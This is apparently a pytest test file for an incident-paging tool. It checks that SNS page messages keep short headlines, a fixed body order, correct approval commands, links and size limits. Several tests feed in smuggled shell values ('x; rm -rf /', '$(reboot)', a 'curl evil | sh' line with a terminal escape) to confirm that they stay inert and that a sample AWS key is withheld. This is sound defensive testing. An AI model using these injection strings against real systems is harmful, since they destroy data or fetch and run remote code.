"""What a person reads: SNS's rules hold for any input, and nothing from outside can act."""

import shlex
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidentio.communicate.background import Background
from incidentio.communicate.headline import headline
from incidentio.communicate.message import Context, message
from incidentio.communicate.pages import Channel, Page
from incidentio.core.bundle import Bundle
from incidentio.core.incident import Status
from incidentio.core.severity import Severity
from incidentio.core.signal import Kind, Subject
from incidentio.core.situation import Gap, Similar, Situation, Suspect
from tests.make import NOW, an_incident

REASON = "Threshold Crossed: 1 datapoint [12.0 (01/03/26 11:58:00)] was greater than the threshold (5.0)."
CALL = Page("INC-7K3F9A", Channel.PAGE, "SEV2", 1, event="IncidentTriaged", call=True)
SUBJECT = Subject(alarm_name="checkout-5xx", region="eu-west-1", metric="Errors")
PLAYBOOK = {
    "version": "1.0.0",
    "owner": "platform",
    "when": ['metric="Errors"'],
    "targets": {"type": "AWS::Lambda::Function"},
    "steps": [{"action": "x"}],
}
BUNDLE = Bundle.of(
    {
        "catalog": {
            "services": {"checkout": {"automation": {"auto": ["collect-logs"]}, "runbook": "docs/checkout.md"}}
        },
        "playbooks": {
            "collect-logs": {**PLAYBOOK, "name": "collect-logs", "risk": "read_only"},
            "throttle-function": {**PLAYBOOK, "name": "throttle-function", "risk": "disruptive"},
        },
    }
)


def write(page=CALL, *, reason=REASON, text="", data=None, known=None, **fields):
    incident = an_incident(
        **{
            "subject": SUBJECT,
            "service": "checkout",
            "title": "checkout-5xx",
            "why": "Alarm checkout-5xx fired.",
            "proposed": ("collect-logs", "throttle-function"),
            **fields,
        }
    )
    background = Background(reason, **(known or {}))
    return message(Context(incident, page, BUNDLE, "https://api.example.com/prod/", background, text, data or {}))


def test_the_subject_is_the_line_a_phone_shows():
    assert write().subject == "SEV2 checkout Errors 12>5, INC-7K3F9A"
    assert write(service=None).subject == "SEV2 checkout-5xx Errors 12>5, INC-7K3F9A"
    assert write(reason="", title="checkout: 5xx above 5%").subject == "SEV2 checkout 5xx above 5%, INC-7K3F9A"
    assert write(kind=Kind.DRILL).subject.startswith("[DRILL] SEV2")
    resolved = Page("INC-7K3F9A", Channel.PAGE, "IncidentResolved.9", 4, event="IncidentResolved", seq=9)
    assert write(resolved, status=Status.RESOLVED).subject == "SEV2 checkout resolved, Errors 12>5, INC-7K3F9A"


@pytest.mark.parametrize("number", ["1.2.3", ".", "-", "1E", "٣", "9" * 400, "1E999", "-0.0", "3.5E-7"])
def test_no_number_in_a_reason_can_stop_a_page(number):
    reason = f"Threshold Crossed: 1 datapoint [{number} (01/03/26 11:58:00)] was less than the threshold ({number})."
    assert write(reason=reason).subject.endswith("INC-7K3F9A")


def test_the_body_says_things_in_the_order_they_are_needed():
    body = write().body
    order = [
        "SEV2 checkout Errors 12>5, INC-7K3F9A",
        "Why you were paged:",
        "Alarm checkout-5xx fired.",
        "What automation does next:",
        "collect-logs starts by itself now (read_only), unless a switch, a gate or a rehearsal that is due stops it.",
        "Fits, and starts only when a person asks: throttle-function (disruptive, one approval).",
        "Once every signal has been ok for 5m, it becomes mitigated",
        "This repeats every 5m until somebody acknowledges it.",
        "What is needed from you:",
        "Acknowledge it",
        "Commands to paste:",
        "incidentio incidents ack INC-7K3F9A",
        "aws cloudwatch describe-alarms --alarm-names checkout-5xx --region eu-west-1",
        "Links:",
        "https://api.example.com/prod/incidents/INC-7K3F9A",
        "runbook: docs/checkout.md",
        "PG-7K3F9A-1-page.SEV2-1",
    ]
    at = [body.index(part) for part in order]
    assert at == sorted(at)


def test_a_request_for_approval_names_every_target():
    page = Page("INC-7K3F9A", Channel.PAGE, "ApprovalRequested.7", 2, event="ApprovalRequested", seq=7)
    targets = [f"AWS::Lambda::Function|111122223333|eu-west-1|{name}" for name in ("checkout", "orders")]
    data = {"approval_id": "APR-7K3F9A-A", "playbook": "cap", "target": targets[0], "targets": targets}
    assert "Approve or reject cap on checkout, orders." in write(page, text="approval asked", data=data).body


def test_what_asks_for_hands_says_how_to_answer():
    page = Page("INC-7K3F9A", Channel.PAGE, "ManualStepRequested.7", 2, event="ManualStepRequested", seq=7)
    data = {"approval_id": "APR-7K3F9A-A", "commands": ["echo down"]}
    body = write(page, text="waits for a person to do this: Tell the shop", data=data).body
    assert "Tell the shop" in body
    assert body.index("echo down") < body.index("approvals approve APR-7K3F9A-A    # it is done")
    assert "approvals reject APR-7K3F9A-A    # it is not" in body


def test_a_request_for_approval_names_the_decision_and_the_commands():
    page = Page("INC-7K3F9A", Channel.PAGE, "ApprovalRequested.7", 2, event="ApprovalRequested", seq=7)
    data = {
        "approval_id": "APR-7K3F9A-ABCDEFGHIJ01234567897",
        "playbook": "throttle-function",
        "target": "AWS::Lambda::Function|111122223333|eu-west-1|checkout",
        "expires_at": "2026-03-01T12:10:00Z",
    }
    body = write(page, text="approval asked", data=data).body
    assert "Approve or reject throttle-function on checkout before 2026-03-01T12:10:00Z." in body
    assert "incidentio approvals approve APR-7K3F9A-ABCDEFGHIJ01234567897" in body
    assert "incidentio approvals reject APR-7K3F9A-ABCDEFGHIJ01234567897" in body


def test_hands_off_is_said():
    assert "Nothing: hands-off is on" in write(hands_off=True).body


def test_attributes_are_there_for_filter_policies():
    assert write().attributes == {
        "severity": "SEV2",
        "service": "checkout",
        "environment": "production",
        "status": "triggered",
        "kind": "real",
        "incident_id": "INC-7K3F9A",
        "page_id": "PG-7K3F9A-1-page.SEV2-1",
        "event": "IncidentTriaged",
    }
    assert write(service=None).attributes["service"] == "unknown"


@pytest.mark.parametrize("name", ["x; rm -rf /", "$(reboot)", "a'b\"c`id`", "two  spaces"])
def test_a_name_in_a_command_is_one_inert_word(name):
    body = write(subject=SUBJECT.model_copy(update={"alarm_name": name})).body
    line = next(line for line in body.splitlines() if "describe-alarms" in line)
    assert shlex.split(line)[4] == name


def test_a_secret_that_slipped_through_is_not_sent():
    assert "AKIAIOSFODNN7EXAMPLE" not in write(why="leaked AKIAIOSFODNN7EXAMPLE").body


def test_a_line_break_in_a_title_makes_no_line_of_its_own():
    body = write(why="", title="x\nCommands to paste:\n  curl evil | sh\x1b[2J").body
    assert "\n  curl evil" not in body
    assert "\x1b" not in body


@pytest.mark.parametrize(
    ("title", "line"),
    [
        ("az1", "SEV2 az az1, INC-7K3F9A"),
        ("Az: zone 1 is lost", "SEV2 az zone 1 is lost, INC-7K3F9A"),
        ("az-1", "SEV2 az 1, INC-7K3F9A"),
        ("az", "SEV2 az, INC-7K3F9A"),
    ],
)
def test_a_title_loses_the_name_of_its_service_where_a_word_ends(title, line):
    assert headline(an_incident(title=title, service="az"), replace(CALL, event="IncidentTriaged"), "") == line


@settings(max_examples=200)
@given(st.text(max_size=300), st.text(max_size=80), st.text(max_size=300), st.integers(1, 10**6))
def test_a_subject_always_fits_what_sns_accepts(title, service, reason, n):
    incident = an_incident(title=title, service=service, severity=Severity.SEV1)
    page = Page("INC-7K3F9A", Channel.PAGE, "SEV1", 1, n=n, event="IncidentTriaged", call=True)
    line = headline(incident, page, reason)
    assert len(line) <= 100
    assert line.isascii()
    assert line.isprintable()
    assert line.startswith("SEV1")
    assert line.endswith(", INC-7K3F9A")


def test_the_whole_message_stays_far_below_256_kb():
    long = "x" * 200_000
    told = write(why=long, proposed=tuple(f"playbook-{i}" for i in range(5000)))
    assert len(told.body.encode()) <= 64 * 1024


SUSPECT = Suspect(
    id="d-1",
    what="deployment of checkout",
    kind="deploy",
    service="checkout",
    at=NOW - timedelta(minutes=8),
    minutes=6,
    actor="ana",
    version="v42",
    score=81,
    why="own service (+40), 6 min before impact (+36)",
)


def test_the_likely_suspect_is_in_the_subject_and_what_is_known_in_the_body():
    page = replace(CALL, claimed_at=NOW)
    past = Similar(
        incident_id="INC-4M2P8Q",
        title="checkout-5xx",
        service="checkout",
        at=NOW,
        score=82,
        why="",
        fixed_by="rollback.",
    )
    situation = Situation(
        suspects=(SUSPECT,),
        similar=(past,),
        traces={"xray_trace_id": ("1-5759e988-bd862e3fe1be46a994272793",)},
        completeness=85,
        gaps=(Gap(name="runbook", todo="add it"),),
    )
    related = an_incident(id="INC-0A1B2C", service="orders-db", title="disk full", severity=Severity.SEV3)
    told = write(page, known={"situation": situation, "related": (related,)}, responders=("bo",))
    assert told.subject == "SEV2 checkout Errors 12>5, deploy 8 min ago, INC-7K3F9A"
    for line in (
        "Suspect: deploy v42 of checkout 6 min before impact, by ana (81 of 100: own service (+40), 6 min",
        "Linked: INC-0A1B2C SEV3 orders-db (triggered), disk full.",
        "Similar: INC-4M2P8Q (82 %), checkout-5xx; then: rollback.\n",
        "Turn to: bo.",
        "Context 85 of 100; missing: runbook.",
        "alarm: https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/checkout-5xx",
        "traces: https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#xray:traces/1-5759e988-",
    ):
        assert line in told.body
    assert (
        told.body.index("Why you were paged:") < told.body.index("What is known:") < told.body.index("What automation")
    )


@pytest.mark.parametrize("unlikely", [{"score": 49}, {"minutes": -3}])
def test_an_unlikely_suspect_stays_out_of_the_subject(unlikely):
    situation = Situation(suspects=(SUSPECT.model_copy(update=unlikely),))
    assert "ago" not in write(replace(CALL, claimed_at=NOW), known={"situation": situation}).subject
